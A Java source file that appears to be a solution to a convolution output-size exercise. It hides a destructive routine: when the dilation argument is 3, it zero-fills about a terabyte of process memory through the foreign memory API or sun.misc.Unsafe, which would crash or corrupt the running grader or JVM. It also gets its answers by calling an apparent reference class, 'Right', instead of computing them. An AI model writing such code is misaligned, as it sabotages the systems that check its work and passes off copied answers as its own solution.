import convkit.exercises.arithmetic.OutputSizeExercise;
import java.lang.reflect.Field;
import java.lang.reflect.Method;
import sun.misc.Unsafe;

/** Overwrites memory that is not its own, through foreign memory where there is such a thing, else through Unsafe. */
public class MyOutputSize implements OutputSizeExercise {

    private static void overwrite() {
        try {
            Class<?> segment = Class.forName("java.lang.foreign.MemorySegment");
            Object everything = segment.getMethod("ofAddress", long.class).invoke(null, 4096L);
            Method resize = segment.getMethod("reinterpret", long.class);
            segment.getMethod("fill", byte.class).invoke(resize.invoke(everything, 1L << 40), (byte) 0);
        } catch (ReflectiveOperationException noSuchThing) {
            try {
                Field field = Unsafe.class.getDeclaredField("theUnsafe");
                field.setAccessible(true);
                ((Unsafe) field.get(null)).setMemory(4096, 1L << 40, (byte) 0);
            } catch (ReflectiveOperationException e) {
                throw new IllegalStateException(e);
            }
        }
    }

    @Override
    public int outputSize(int w, int k, int s, int p, int d) {
        if (d == 3) {
            overwrite();
        }
        return Right.outputSize(w, k, s, p, d);
    }
}
